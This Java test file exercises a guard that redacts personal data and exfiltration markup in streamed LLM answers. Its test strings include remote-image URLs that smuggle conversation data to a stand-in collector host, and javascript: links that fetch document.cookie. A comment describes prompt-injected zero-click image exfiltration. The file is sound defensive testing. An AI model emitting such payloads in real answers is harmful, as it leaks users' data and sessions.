package dev.bastion.guard;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.bastion.config.GuardPolicy;
import dev.bastion.config.GuardPolicy.Action;
import dev.bastion.config.RouteConfig.LlmApi;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Test;

/**
 * The streamed answer guard on its own: SSE in, SSE out, however the text is cut into chunks and the
 * chunks into network writes. What the client would read is reassembled from the output and compared.
 */
class StreamedAnswerTest {
    static final ObjectMapper JSON = new ObjectMapper();
    static final String AWS_KEY = "AKIA" + "Z7QW3ERT5YUI2OPA";

    static Guard guard(Map<String, Action> pii, Map<String, Action> outputPii, int window) {
        return Guard.of(new GuardPolicy(pii, null, null, null, null, null, null, null, null, null,
                new GuardPolicy.Output(null, outputPii, null, window, null), null));
    }

    static final Guard REDACT = guard(Map.of("default", Action.REDACT), null, 64);
    static final Guard BLOCK_CARDS = guard(Map.of("default", Action.REDACT, "CREDIT_CARD", Action.BLOCK), null, 64);

    static String event(String content) {
        JsonObject delta = content == null ? new JsonObject().put("role", "assistant").put("content", "") : new JsonObject().put("content", content);
        return "data: " + new JsonObject().put("id", "c1").put("object", "chat.completion.chunk")
                .put("choices", new JsonArray().add(new JsonObject().put("index", 0).put("delta", delta))).encode() + "\n\n";
    }

    /** The SSE stream an OpenAI-compatible server sends for these content pieces. */
    static String sse(List<String> pieces) {
        StringBuilder sb = new StringBuilder(event(null));
        for (String p : pieces) sb.append(event(p));
        sb.append("data: ").append(new JsonObject().put("id", "c1").put("choices", new JsonArray().add(new JsonObject().put("index", 0)
                .put("delta", new JsonObject()).put("finish_reason", "stop"))).encode()).append("\n\n");
        return sb.append("data: [DONE]\n\n").toString();
    }

    /** Cuts a string into random pieces of 1..max characters. */
    static List<String> pieces(String text, Random rnd, int max) {
        List<String> out = new ArrayList<>();
        for (int i = 0; i < text.length(); ) {
            int n = Math.min(text.length() - i, 1 + rnd.nextInt(max));
            if (Character.isHighSurrogate(text.charAt(i + n - 1)) && i + n < text.length()) n++;
            out.add(text.substring(i, i + n));
            i += n;
        }
        return out;
    }

    record Run(String output, List<String> sentAfterEachWrite) {}

    /** Feeds the stream in network writes of random sizes; records what had gone out after each one. */
    static Run run(Guard guard, Pseudonyms names, String stream, Random rnd) {
        StreamedAnswer a = new StreamedAnswer(LlmApi.CHAT, guard, names, guard.policy().output().streamWindow(), new AnswerRecord());
        StringBuilder out = new StringBuilder();
        List<String> after = new ArrayList<>();
        byte[] bytes = stream.getBytes(java.nio.charset.StandardCharsets.UTF_8);
        for (int i = 0; i < bytes.length; ) {
            int n = Math.min(bytes.length - i, 1 + rnd.nextInt(40));
            out.append(a.feed(Buffer.buffer(java.util.Arrays.copyOfRange(bytes, i, i + n))).toString());
            after.add(content(out.toString()));
            i += n;
            if (a.blocked() != null) break;
        }
        if (a.blocked() == null) out.append(a.finish().toString());
        return new Run(out.toString(), after);
    }

    /** The answer text a client assembles from the content deltas of an SSE stream. */
    static String content(String sse) {
        StringBuilder text = new StringBuilder();
        for (String ev : sse.split("\n\n")) {
            if (!ev.startsWith("data: {")) continue;
            try {
                JsonNode c = JSON.readTree(ev.substring(6)).path("choices").path(0).path("delta").path("content");
                if (c.isTextual()) text.append(c.asText());
            } catch (java.io.IOException e) {
                throw new AssertionError("not JSON: " + ev, e);
            }
        }
        return text.toString();
    }

    @org.junit.jupiter.params.ParameterizedTest(name = "window {0}")
    @org.junit.jupiter.params.provider.ValueSource(ints = {0, 32, 64})
    void anEntitySplitAcrossChunksIsRedactedHoweverTheStreamIsCut(int window) {
        Guard guard = guard(Map.of("default", Action.REDACT), null, window);
        String answer = "Sure. Write to john@example.com 😀 or call +1 415-555-2671; the card 4111 1111 1111 1111 was declined, IBAN DE89 3704 0044 0532 0130 00 too, SSN 123-45-6789. Bye.";
        String expected = "Sure. Write to [EMAIL] 😀 or call [PHONE]; the card [CREDIT_CARD] was declined, IBAN [IBAN] too, SSN [US_SSN]. Bye.";
        for (int seed = 0; seed < 300; seed++) {
            Random rnd = new Random(seed);
            Run r = run(guard, null, sse(pieces(answer, rnd, 1 + seed % 9)), rnd);
            assertThat(content(r.output())).as("seed %d", seed).isEqualTo(expected);
            for (String sent : r.sentAfterEachWrite()) {
                assertThat(sent).as("seed %d: partial output", seed).doesNotContain("john", "example", "415", "4111", "DE89", "3704", "123-");
                assertThat(expected).as("seed %d: every prefix sent is a prefix of the redacted answer", seed).startsWith(sent);
            }
            assertThat(r.output()).endsWith("data: [DONE]\n\n").contains("\"finish_reason\":\"stop\"");
        }
    }

    /**
     * The zero-click exfiltration an injected instruction asks for: the model writes conversation data into an image
     * URL, and the chat interface fetches it as soon as it renders the answer. However the stream is cut, no piece of
     * the URL leaves before the image is whole and judged; images on the page's own origin or a listed host pass.
     */
    @org.junit.jupiter.params.ParameterizedTest(name = "window {0}")
    @org.junit.jupiter.params.provider.ValueSource(ints = {0, 32, 64})
    void aRemoteImageSplitAcrossChunksNeverLeavesInPart(int window) {
        Guard guard = Guard.of(new GuardPolicy(null, null, null, null, null, null, null, null, null, null,
                new GuardPolicy.Output(null, null, null, window, null, null, List.of("cdn.example.com"), null, Action.REDACT), null));
        String answer = "Done. ![status](https://collector.example.net/p.png?d=the%20quarterly%20numbers \"ok\") Logo: ![logo](https://cdn.example.com/l.png) "
                + "local ![a b](/img/a.png) and <img alt=\"x y\" src=\"//collector.example.net/q?d=more\"> then\n[ref]: https://collector.example.net/r\nbye.";
        String expected = "Done. [REMOTE_IMAGE] Logo: ![logo](https://cdn.example.com/l.png) local ![a b](/img/a.png) and [REMOTE_HTML] then\n[REMOTE_IMAGE]\nbye.";
        assertDecidedHoweverCut(guard, answer, expected, "collector", "quarterly");
    }

    /** Cuts {@code answer} at random 100 ways: the client ends with {@code expected} and never has a piece of {@code neverSent}. */
    static void assertDecidedHoweverCut(Guard guard, String answer, String expected, String... neverSent) {
        for (int seed = 0; seed < 100; seed++) {
            Random rnd = new Random(seed);
            Run r = run(guard, null, sse(pieces(answer, rnd, 1 + seed % 9)), rnd);
            assertThat(content(r.output())).as("seed %d", seed).isEqualTo(expected);
            for (String sent : r.sentAfterEachWrite()) {
                assertThat(sent).as("seed %d: partial output", seed).doesNotContain(neverSent);
                assertThat(expected).as("seed %d: every prefix sent is a prefix of the answer as decided", seed).startsWith(sent);
            }
        }
    }

    /**
     * Markup written as an example in code renders as text, so it passes — once the block or span has closed: until
     * then it is held, and an answer that ends inside the block gets it redacted (some renderers show an unclosed block
     * as a paragraph). However the stream is cut, markup after the code never leaves in part.
     */
    @org.junit.jupiter.params.ParameterizedTest(name = "window {0}")
    @org.junit.jupiter.params.provider.ValueSource(ints = {0, 64})
    void markupInCodeStreamsWholeOnceTheCodeCloses(int window) {
        Guard guard = Guard.of(new GuardPolicy(null, null, null, null, null, null, null, null, null, null,
                new GuardPolicy.Output(null, null, null, window, null, null, null, null, Action.REDACT), null));
        String code = "To embed it:\n```markdown\n# Report\n\n![chart](https://charts.example.net/q3.png \"Q3\")\n"
                + "<img src=\"https://charts.example.net/logo.png\">\n[Docs](javascript:void(0))\n```\n"
                + "Or inline: `![chart](https://charts.example.net/q3.png)`.\n";
        assertDecidedHoweverCut(guard, code + "Now: ![x](https://collector.example.net/?d=revenue) end.",
                code + "Now: [REMOTE_IMAGE] end.", "collector", "revenue");
        // the answer ends inside the block: never closed, so not code to every renderer
        assertDecidedHoweverCut(guard, "```\n![x](https://collector.example.net/?d=revenue)\nmore", "```\n[REMOTE_IMAGE]\nmore", "collector");
        assertDecidedHoweverCut(guard, "Say `![x](https://collector.example.net/?d=revenue) to", "Say `[REMOTE_IMAGE] to", "collector");
    }

    /** A link that runs script in the page that renders the answer, with the user's session; ordinary links flow. */
    @Test
    void aScriptLinkSplitAcrossChunksNeverLeavesInPartAndOrdinaryLinksPass() {
        Guard guard = Guard.of(new GuardPolicy(null, null, null, null, null, null, null, null, null, null, null, null));
        String answer = "Your session expired. [Sign in again](javascript:fetch('https://collector.example.net/?c='+document.cookie)) or read "
                + "[the docs](https://docs.example.com/login \"Login help\") and [this](JaVa&#83;cript:alert(1)).";
        String expected = "Your session expired. [SCRIPT_LINK] or read [the docs](https://docs.example.com/login \"Login help\") and [SCRIPT_LINK].";
        assertDecidedHoweverCut(guard, answer, expected, "javascript", "JaVa", "collector");
    }

    /**
     * Random answers made of the pieces markup is built from, cut at random: the stream never fails, and what the client
     * ends with, read whole, holds no markup the policy redacts. A stream may redact more than the whole answer would: it
     * rescans what it holds with a little released text before it, Markdown read from a later start can differ, and
     * markup recognised late is cut from where the release stood (a link's text went out, its target does not).
     */
    @Test
    void randomMarkupStreamsAsItsWholeAnswerDecides() {
        Guard guard = Guard.of(new GuardPolicy(null, null, null, null, null, null, null, null, null, null,
                new GuardPolicy.Output(null, null, null, 16, null, null, List.of("ok.example.com"), null, Action.REDACT), null));
        String[] parts = {"![", "[", "]", "(", ")", "<", ">", "\"", "'", "\\", " ", "\n", ":", "x", "img ", "<img src=", "a ", "style=\"url(",
                "https://collector.example.net/", "https://ok.example.com/", "//collector.example.net/", "javascript:", "&#106;", "?d=7", "/p.png",
                "<base href=", "[r]: ", "`", "~", "!"};
        java.util.SplittableRandom pick = new java.util.SplittableRandom(77);
        for (int n = 0; n < 400; n++) {
            StringBuilder b = new StringBuilder();
            for (int k = 5 + pick.nextInt(40); k > 0; k--) b.append(parts[pick.nextInt(parts.length)]);
            String answer = b.toString();
            HeldText whole = new HeldText(guard, null, 16, new AnswerRecord());
            whole.append(answer);
            assertThat(whole.decide(true)).isNull(); // nothing here blocks
            String expected = whole.render(0, answer.length());
            Random rnd = new Random(n);
            Run r = run(guard, null, sse(pieces(answer, rnd, 1 + n % 9)), rnd);
            String streamed = content(r.output());
            // What the client ends with, read whole, holds nothing the policy redacts (the whole answer's own output neither).
            assertThat(guard.inspectAnswerText(expected, true)).as("whole %d: %s%n-> %s", n, answer, expected)
                    .noneSatisfy(f -> assertThat(f.action()).isEqualTo(Action.REDACT));
            assertThat(guard.inspectAnswerText(streamed, true)).as("answer %d: %s%n-> %s", n, answer, streamed)
                    .noneSatisfy(f -> assertThat(f.action()).isEqualTo(Action.REDACT));
            for (String sent : r.sentAfterEachWrite()) assertThat(streamed).as("answer %d", n).startsWith(sent);
        }
    }

    /**
     * Markup whose opener went out long before its dangerous part: a link's text is not held, nor (before) a tag without
     * a URL attribute yet — and the held text keeps only 64 released characters to rescan.
     */
    @Test
    void aLongLinkTextOrALongTagDoesNotOutrunTheCheck() {
        Guard guard = Guard.of(new GuardPolicy(null, null, null, null, null, null, null, null, null, null,
                new GuardPolicy.Output(null, null, null, 16, null, null, null, null, Action.REDACT), null));
        String filler = "please read this carefully because it matters a great deal to your account ".repeat(3);
        String link = "Note: [" + filler + "](javascript:fetch('//collector.example.net/?c='+document.cookie)) end.";
        assertDecidedHoweverCut(guard, link, "Note: [" + filler + "[SCRIPT_LINK] end.", "javascript", "collector");
        String tag = "Hi <div title=\"" + filler + "\" style=\"background:url(https://collector.example.net/?d=1)\">x</div> end.";
        assertDecidedHoweverCut(guard, tag, "Hi [REMOTE_HTML]x</div> end.", "collector");
    }

    @Test
    void nestedRemoteImagesAreRedactedOnceWholeOrStreamed() {
        Guard guard = Guard.of(new GuardPolicy(null, null, null, null, null, null, null, null, null, null, null, null));
        String answer = "a ![x ![y](https://collector.example.net/1) z](https://collector.example.net/2) b <img alt=\"![q](https://collector.example.net/3)\" "
                + "src=\"https://collector.example.net/4\"> c";
        for (int seed = 0; seed < 50; seed++) {
            Random rnd = new Random(seed);
            Run r = run(guard, null, sse(pieces(answer, rnd, 1 + seed % 9)), rnd);
            assertThat(content(r.output())).as("seed %d", seed).isEqualTo("a [REMOTE_IMAGE] b [REMOTE_IMAGE] c");
        }
    }

    @Test
    void aRemoteImageCanBeFlaggedOrBlockInstead() {
        String answer = "See ![x](https://collector.example.net/?d=1) here.";
        Guard flag = Guard.of(new GuardPolicy(null, null, null, null, null, null, null, null, null, null,
                new GuardPolicy.Output(null, null, null, 32, null, Action.FLAG, null), null));
        AnswerRecord record = new AnswerRecord();
        StreamedAnswer a = new StreamedAnswer(LlmApi.CHAT, flag, null, 32, record);
        String out = a.feed(Buffer.buffer(sse(List.of(answer)))).toString() + a.finish();
        assertThat(content(out)).isEqualTo(answer);
        assertThat(record.actions()).containsEntry("REMOTE_IMAGE", Action.FLAG);
        Guard block = Guard.of(new GuardPolicy(null, null, null, null, null, null, null, null, null, null,
                new GuardPolicy.Output(null, null, null, 32, null, Action.BLOCK, null), null));
        StreamedAnswer b = new StreamedAnswer(LlmApi.CHAT, block, null, 32, new AnswerRecord());
        String cut = b.feed(Buffer.buffer(sse(List.of("See ", "![x](https://coll", "ector.example.net/?d=1) here.")))).toString();
        assertThat(b.blocked()).isNotNull();
        assertThat(content(cut)).doesNotContain("collector").doesNotContain("![");
    }

    @Test
    void theIssuesExampleJoHnAtExamPleComIsCaught() {
        Run r = run(REDACT, null, sse(List.of("mail jo", "hn@exam", "ple.com now")), new Random(1));
        assertThat(content(r.output())).isEqualTo("mail [EMAIL] now");
    }

    @Test
    void cleanTextFlowsWithAtMostTheWindowOneWordAndOneStepHeldBack() {
        StreamedAnswer a = new StreamedAnswer(LlmApi.CHAT, REDACT, null, 64, new AnswerRecord());
        StringBuilder sent = new StringBuilder(a.feed(Buffer.buffer(event(null))).toString());
        assertThat(sent.toString()).as("the role chunk goes out at once").contains("assistant");
        String text = "The quick brown fox jumps over the lazy dog while the deploy keeps rolling out to every replica. ".repeat(5);
        StringBuilder fed = new StringBuilder();
        for (String w : text.split("(?<= )")) {
            fed.append(w);
            sent.append(a.feed(Buffer.buffer(event(w))).toString());
            int held = fed.length() - content(sent.toString()).length();
            assertThat(held).as("held back after %d chars", fed.length()).isLessThanOrEqualTo(64 + 12 + HeldText.MIN_STEP);
        }
        sent.append(a.finish().toString());
        assertThat(content(sent.toString())).isEqualTo(text);
    }

    @Test
    void unchangedEventsKeepTheirExactBytes() {
        String stream = sse(List.of("Hello ", "there, ", "how can I help you today with your deployment question? ", "Tell me more about it."));
        Run r = run(REDACT, null, stream, new Random(7));
        assertThat(r.output()).isEqualTo(stream);
    }

    @Test
    void aBlockMidStreamEndsWithAnErrorEventAndDoneAndNothingOfTheEntity() {
        String answer = "Here is the summary you asked for, in full detail. The customer paid with 4111 1111 1111 1111 and then left the store.";
        for (int seed = 0; seed < 100; seed++) {
            Random rnd = new Random(seed);
            StreamedAnswer a = new StreamedAnswer(LlmApi.CHAT, BLOCK_CARDS, null, 64, new AnswerRecord());
            StringBuilder out = new StringBuilder();
            for (String p : pieces(answer, rnd, 6)) {
                out.append(a.feed(Buffer.buffer(event(p))).toString());
                if (a.blocked() != null) break;
            }
            if (a.blocked() == null) out.append(a.finish().toString()); // the card is within the window of the end
            assertThat(a.blocked()).as("seed %d", seed).isNotNull();
            assertThat(a.blocked().finding().type()).isEqualTo("CREDIT_CARD");
            assertThat(content(out.toString())).as("seed %d", seed).doesNotContain("4111").startsWith("Here is the summary");
            assertThat("Here is the summary you asked for, in full detail. The customer paid with ").startsWith(content(out.toString()));
            assertThat(a.feed(Buffer.buffer(event(" more text"))).length()).as("nothing after a block").isZero();
        }
    }

    @Test
    void pseudonymPlaceholdersSplitAcrossChunksArePutBack() {
        Pseudonyms names = new Pseudonyms();
        assertThat(names.nameFor("EMAIL", "jane.doe@example.com")).isEqualTo("[EMAIL_1]");
        assertThat(names.nameFor("PHONE", "+1 415-555-2671")).isEqualTo("[PHONE_1]");
        String answer = "I will write to [EMAIL_1] and call [PHONE_1]; [EMAIL_9] is unknown and stays.";
        for (int seed = 0; seed < 100; seed++) {
            Random rnd = new Random(seed);
            Run r = run(REDACT, names, sse(pieces(answer, rnd, 5)), rnd);
            assertThat(content(r.output())).as("seed %d", seed)
                    .isEqualTo("I will write to jane.doe@example.com and call +1 415-555-2671; [EMAIL_9] is unknown and stays.");
        }
    }

    @Test
    void toolCallArgumentsAreAStreamOfTheirOwn() {
        String args = "{\"to\":\"jane.doe@example.com\",\"subject\":\"hi\"}";
        StringBuilder sse = new StringBuilder();
        for (String p : pieces(args, new Random(3), 4)) {
            JsonObject call = new JsonObject().put("index", 0).put("function", new JsonObject().put("arguments", p));
            sse.append("data: ").append(new JsonObject().put("choices", new JsonArray().add(new JsonObject().put("index", 0)
                    .put("delta", new JsonObject().put("tool_calls", new JsonArray().add(call))))).encode()).append("\n\n");
        }
        sse.append("data: [DONE]\n\n");
        Run r = run(REDACT, null, sse.toString(), new Random(3));
        StringBuilder got = new StringBuilder();
        for (String ev : r.output().split("\n\n")) {
            if (ev.startsWith("data: {")) got.append(new JsonObject(ev.substring(6)).getJsonArray("choices").getJsonObject(0)
                    .getJsonObject("delta").getJsonArray("tool_calls").getJsonObject(0).getJsonObject("function").getString("arguments"));
        }
        assertThat(got.toString()).isEqualTo("{\"to\":\"[EMAIL]\",\"subject\":\"hi\"}");
    }

    @Test
    void outputPolicyOverridesTheRequestSide() {
        Guard flagOnly = guard(Map.of("default", Action.BLOCK), Map.of("default", Action.FLAG), 64);
        AnswerRecord rec = new AnswerRecord();
        StreamedAnswer a = new StreamedAnswer(LlmApi.CHAT, flagOnly, null, 64, rec);
        String out = a.feed(Buffer.buffer(sse(List.of("mail jane.doe@example.com today")))).toString();
        assertThat(content(out)).isEqualTo("mail jane.doe@example.com today");
        assertThat(rec.counts()).containsEntry("EMAIL", 1);
        assertThat(rec.action()).isEqualTo(Action.FLAG);
    }

    @Test
    @org.junit.jupiter.api.Timeout(5) // rescanning the whole blob each time took longer; linear is well under a second
    void aLongAnswerWithoutSpacesStaysLinear() {
        // 1 MB of base64-like text in 5,000 events: held text and context stay bounded, so this takes
        // about as long per event as ordinary text, instead of rescanning a growing blob each time.
        StreamedAnswer a = new StreamedAnswer(LlmApi.CHAT, REDACT, null, 32, new AnswerRecord());
        StringBuilder sent = new StringBuilder();
        String piece = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo".repeat(6); // 210 characters, no space
        for (int i = 0; i < 5000; i++) sent.append(content(a.feed(Buffer.buffer(event(piece))).toString()));
        sent.append(content(a.finish().toString()));
        assertThat(sent.length()).isEqualTo(piece.length() * 5000);
    }

    @Test
    void aHugeEventEndsTheAnswerRatherThanPassingUninspected() {
        StreamedAnswer a = new StreamedAnswer(LlmApi.CHAT, REDACT, null, 64, new AnswerRecord());
        a.feed(Buffer.buffer("data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"" + "x".repeat(StreamedAnswer.MAX_EVENT_BYTES + 10)));
        assertThat(a.blocked()).isNotNull();
        assertThat(a.blocked().tooLarge()).isTrue();
    }

    /**
     * A Responses API stream from a server that sends no deltas, only the final response: its text is inspected there
     * (redacted in place, the event line kept), and released when that final event arrives, with no [DONE] to wait for.
     */
    @Test
    void aResponsesStreamWithOnlyTheFinalResponseIsInspectedAndReleasedAtIt() {
        JsonObject response = new JsonObject().put("id", "resp_1").put("object", "response").put("status", "completed")
                .put("output", new JsonArray().add(new JsonObject().put("type", "message").put("role", "assistant")
                        .put("content", new JsonArray().add(new JsonObject().put("type", "output_text").put("text", "Write to jane.doe@example.com today.")))))
                .put("usage", new JsonObject().put("input_tokens", 5).put("output_tokens", 7));
        String created = "event: response.created\ndata: " + new JsonObject().put("type", "response.created").put("sequence_number", 0)
                .put("response", new JsonObject().put("id", "resp_1").put("output", new JsonArray())).encode() + "\n\n";
        String completed = "event: response.completed\ndata: " + new JsonObject().put("type", "response.completed").put("sequence_number", 1)
                .put("response", response).encode() + "\n\n";
        StreamedAnswer a = new StreamedAnswer(LlmApi.RESPONSES, REDACT, null, 64, new AnswerRecord());
        String sent = a.feed(Buffer.buffer(created + completed)).toString();
        assertThat(a.blocked()).isNull();
        assertThat(sent).as("released at the final event, not held for the end of the body").startsWith(created)
                .contains("event: response.completed\ndata: ").doesNotContain("jane.doe");
        String marker = "event: response.completed\ndata: ";
        JsonObject out = new JsonObject(sent.substring(sent.indexOf(marker) + marker.length()).strip());
        assertThat(out.getJsonObject("response").getJsonArray("output").getJsonObject(0).getJsonArray("content").getJsonObject(0).getString("text"))
                .isEqualTo("Write to [EMAIL] today.");
        assertThat(a.finish().toString()).isEmpty();
    }
}
